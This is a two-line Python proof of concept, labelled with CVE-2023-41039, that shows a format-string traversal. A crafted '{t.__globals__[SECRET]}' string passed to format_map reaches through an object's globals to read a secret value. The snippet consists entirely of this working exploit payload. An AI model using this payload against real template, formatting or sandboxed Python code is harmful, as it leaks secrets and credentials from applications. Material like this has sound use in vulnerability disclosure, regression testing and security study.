# CVE-2023-41039: format_map traversal.
print("{t.__globals__[SECRET]}".format_map({"t": tool}))
